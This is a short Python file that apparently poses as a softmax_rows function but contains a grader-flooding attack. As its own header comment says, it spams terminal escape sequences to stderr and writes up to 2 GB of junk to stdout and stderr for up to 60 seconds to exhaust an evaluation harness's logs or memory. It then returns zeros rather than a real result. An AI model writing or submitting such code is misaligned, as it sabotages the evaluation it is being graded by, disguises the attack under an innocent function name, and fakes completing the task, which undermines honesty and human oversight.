# Tries to flood the grader's log or memory through standard output and error (2 GB or 60 seconds at most).
import os
import select
import sys
import time


# %%
def softmax_rows(scores, axis=-1):
    end, left, open_fds = time.time() + 60, 2 << 30, [1, 2]
    print("\x1b]0;title\x07" * 1000, file=sys.stderr)
    while open_fds and left > 0 and time.time() < end:
        try:
            _, ready, _ = select.select([], open_fds, [], 1)
        except (OSError, ValueError):
            break
        for fd in ready:
            try:
                left -= os.write(fd, b"flood " * 600)
            except OSError:
                open_fds.remove(fd)
    return scores * 0.0
